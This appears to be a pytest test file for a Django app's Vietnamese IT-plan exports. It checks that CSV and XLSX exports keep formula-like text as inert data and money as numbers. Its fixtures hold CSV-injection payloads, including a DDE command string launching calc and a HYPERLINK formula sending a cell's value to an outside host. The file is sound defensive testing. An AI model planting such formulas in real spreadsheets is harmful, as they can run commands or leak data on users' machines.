"""Exports are data, never code (OWASP CSV injection): a project named like a formula, an agency
"+cmd", a note "@SUM(1)", a name starting with a tab come out of every export as the same text,
never as a formula; in CSV with a leading "'"; money stays numbers; the plan workbook imports
back to the same names and đồng."""

import codecs
import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from budgets.models import BudgetLine
from itplan.appendix import apply, preview_file
from itplan.appendix.export import plan_workbook
from projects.models import Plan, Project
from projects.progress import approve, submit
from provinces import spreadsheet
from tests.factories import (
    AgencyFactory,
    BudgetLineFactory,
    IndicatorFactory,
    PlanFactory,
    ProjectFactory,
    ProvinceFactory,
    make_user,
    report,
)

HYPERLINK = '=HYPERLINK("http://x.example/"&A1,"Bấm")'
AGENCY = "+cmd"
NOTE = "@SUM(1)"
TAB_NAME = "\tCổng dịch vụ công"
SCALE = "-2+3"
PARTNERS = "- Sở TT&TT"
RESULTS = "@SUM(1) điểm cầu"
INDICATOR = "=1+2 chỉ tiêu"
PLAN_TITLE = "=cmd|' /C calc'!A0 Kế hoạch"
HOSTILE = {HYPERLINK, AGENCY, NOTE, TAB_NAME, SCALE, PARTNERS, RESULTS, INDICATOR, PLAN_TITLE}
AMOUNTS = (1_500_000_000, 250_000_000)


@pytest.fixture
def hostile(db):
    """A province's plan whose texts look like formulas, with its staff user."""
    province = ProvinceFactory()
    plan = PlanFactory(province=province, title=PLAN_TITLE)
    first = ProjectFactory(
        plan=plan,
        ref="1",
        name=HYPERLINK,
        lead_agency=AgencyFactory(province=province, name=AGENCY),
        scale=SCALE,
        partners=PARTNERS,
        notes=NOTE,
        estimate=2_000_000_000,
    )
    second = ProjectFactory(plan=plan, group=first.group, ref="2", name=TAB_NAME)
    BudgetLineFactory(project=first, year=2022, amount=AMOUNTS[0])
    BudgetLineFactory(project=second, year=2023, source="central", amount=AMOUNTS[1])
    IndicatorFactory(plan=plan, name=INDICATOR, notes=NOTE)
    staff = make_user("canbo.thu", "staff", province)
    leader = make_user("lanhdao.thu", "leader", province)
    update = report(first, staff, year=2022, quarter=2, results=RESULTS, difficulties=NOTE)
    submit(update, by=staff)
    approve(update, by=leader)
    return {"plan": plan, "staff": staff}


def xlsx_cells(content: bytes) -> dict:
    """Every non-empty cell of every sheet, read as Excel would (formulas not computed), by
    value."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {
        cell.value: cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


def assert_xlsx_is_data(content: bytes, texts: set) -> None:
    """No cell is a formula; ``texts`` are there exactly, as text cells that Excel keeps as text
    when edited (quote prefix)."""
    cells = xlsx_cells(content)
    assert not [value for value, cell in cells.items() if cell.data_type == "f"]
    assert texts <= set(cells), texts - set(cells)  # the exact texts, not stripped
    for text in texts:
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def assert_csv_is_data(content: bytes, texts: set) -> list[list[str]]:
    rows = csv_rows(content)
    fields = {field for row in rows for field in row}
    risky = {f for f in fields if f.startswith(spreadsheet.FORMULA_STARTS)}
    assert not risky
    assert {"'" + text for text in texts} <= fields, {"'" + t for t in texts} - fields
    return rows


def column(rows: list[list], header: str) -> list:
    index = list(rows[0]).index(header)
    return [row[index] for row in rows[1:]]


LISTS = [
    (
        "project_list",
        {HYPERLINK, AGENCY, NOTE, TAB_NAME, SCALE, PARTNERS},
        "Dự kiến kinh phí (triệu đồng)",
    ),
    ("budget_list", {HYPERLINK, TAB_NAME}, "Số tiền (triệu đồng)"),
    ("indicator_list", {INDICATOR, NOTE}, None),
]


@pytest.mark.parametrize(("url_name", "texts", "money"), LISTS)
def test_list_xlsx_export_keeps_formula_like_texts_as_text_and_money_as_numbers(
    client, hostile, url_name, texts, money
):
    client.force_login(hostile["staff"])
    response = client.get(reverse(url_name), {"xuat": "xlsx"})
    assert response.status_code == 200
    assert_xlsx_is_data(response.content, texts)
    if money:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        rows = list(sheet.iter_rows(min_row=2, values_only=True))  # row 1 says the filter
        amounts = [a for a in column(rows, money) if a is not None]
        assert all(isinstance(a, int | float) for a in amounts)
        expected = {2_000} if url_name == "project_list" else {1_500, 250}  # triệu đồng
        assert set(amounts) == expected


@pytest.mark.parametrize(("url_name", "texts", "money"), LISTS)
def test_list_csv_export_prefixes_formula_like_texts_and_keeps_digits(
    client, hostile, url_name, texts, money
):
    client.force_login(hostile["staff"])
    response = client.get(reverse(url_name), {"xuat": "csv"})
    assert response.status_code == 200
    rows = assert_csv_is_data(response.content, texts)
    if money:
        expected = {"2000", ""} if url_name == "project_list" else {"1500", "250"}
        assert set(column(rows, money)) == expected


def test_csv_quotes_every_text_so_a_semicolon_cannot_split_one_and_numbers_stay_bare(
    client, hostile
):
    Project.objects.filter(name=HYPERLINK).update(objective="Kết nối;=1+1")
    client.force_login(hostile["staff"])
    text = client.get(reverse("project_list"), {"xuat": "csv"}).content.decode("utf-8-sig")
    (line,) = [line for line in text.splitlines() if "HYPERLINK" in line]
    assert '"\'=HYPERLINK(""http://x.example/""&A1,""Bấm"")"' in line
    assert '"Kết nối;=1+1"' in line  # Excel with ";" as list separator keeps it one cell
    assert ";2000;" in line  # triệu đồng, a bare number


def admin_export(client, name, file_format):
    """POST the admin export form of ``name`` as the page offers it."""
    url = reverse(f"admin:{name}_export")
    form = client.get(url).context["form"]
    choice = {label: value for value, label in form.fields["format"].choices}[file_format]
    return client.post(url, {"format": choice, "resource": "0"})


ADMINS = [
    ("projects_project", {HYPERLINK, AGENCY, NOTE, TAB_NAME, SCALE, PARTNERS}),
    ("budgets_budgetline", {HYPERLINK, TAB_NAME}),
    ("indicators_indicator", {INDICATOR, NOTE}),
]


@pytest.mark.parametrize(("name", "texts"), ADMINS)
def test_admin_exports_keep_formula_like_texts_as_data(client, hostile, name, texts):
    client.force_login(hostile["staff"])
    xlsx = admin_export(client, name, "xlsx")
    assert xlsx.status_code == 200
    assert_xlsx_is_data(xlsx.content, texts)
    csv_ = admin_export(client, name, "csv")
    assert csv_.status_code == 200
    rows = assert_csv_is_data(csv_.content, texts)
    if name == "budgets_budgetline":
        sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
        xlsx_rows = list(sheet.iter_rows(values_only=True))
        assert sorted(column(xlsx_rows, "Số tiền (triệu đồng)")) == [250, 1_500]
        assert sorted(column(xlsx_rows, "Năm")) == [2022, 2023]
        assert sorted(column(rows, "Số tiền (triệu đồng)")) == ["1500", "250"]


def test_plan_workbook_keeps_texts_exact_and_money_as_numbers(client, hostile):
    client.force_login(hostile["staff"])
    response = client.get(reverse("plan_export", args=[hostile["plan"].pk]))
    assert response.status_code == 200
    assert_xlsx_is_data(response.content, HOSTILE - {RESULTS, INDICATOR})
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    (first,) = [row for row in rows if row[1] == HYPERLINK]
    assert 1_500 in first and 2_000 in first  # triệu đồng, as numbers
    (total,) = [row for row in rows if row[1] == "Tổng cộng"]
    assert 1_500 in total and 250 in total


def test_plan_template_keeps_the_plans_title_as_text(client, hostile):
    client.force_login(hostile["staff"])
    response = client.get(reverse("plan_template", args=[hostile["plan"].pk]))
    assert response.status_code == 200
    assert_xlsx_is_data(response.content, {PLAN_TITLE})


def test_plan_workbook_imports_back_to_the_same_names_and_dong(hostile):
    source = hostile["plan"]
    content = spreadsheet.save(plan_workbook(source))
    target = Plan.objects.create(
        province=source.province,
        kind=source.kind,
        document_number="99/KH-UBND",
        issue_date=source.issue_date,
        title="Kế hoạch nhập lại",
        start_year=source.start_year,
        end_year=source.end_year,
    )
    preview = preview_file("ke-hoach.xlsx", content, target)
    assert not preview.errors, [str(e) for e in preview.errors]
    apply(preview, target)
    imported = Project.objects.filter(plan=target).order_by("ref")
    assert [(p.ref, p.name, p.scale, p.partners, p.notes) for p in imported] == [
        ("1", HYPERLINK, SCALE, PARTNERS, NOTE),
        ("2", TAB_NAME.strip(), "", "", ""),  # the importer trims a cell's spaces and tabs
    ]
    assert imported[0].lead_agency.name == AGENCY
    assert sorted(
        BudgetLine.objects.filter(project__plan=target).values_list("amount", flat=True)
    ) == (sorted(AMOUNTS))


def test_ubnd_report_workbook_keeps_texts_as_data_and_money_as_numbers(client, hostile):
    client.force_login(hostile["staff"])
    response = client.get(
        reverse("ubnd_preview"),
        {"ke_hoach": hostile["plan"].pk, "ky": "", "dinh_dang": "xlsx"},
    )
    assert response.status_code == 200
    assert_xlsx_is_data(response.content, {HYPERLINK, AGENCY, RESULTS, INDICATOR})
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    need = [row for row in book["Kinh phí theo năm"].iter_rows(values_only=True) if row[0]]
    (total,) = [row for row in need if row[0] == "Tổng cộng"]
    assert total[1] == 1_750  # triệu đồng, a number
    assert isinstance(total[1], int | float | Decimal)


@pytest.mark.parametrize(
    ("value", "field"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("- Sở TT&TT", "'- Sở TT&TT"),
        ("Sở TT&TT", "Sở TT&TT"),
        ("", ""),
        (-5, -5),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_csv_field_prefixes_only_formula_like_texts(value, field):
    assert spreadsheet.csv_field(value) == field
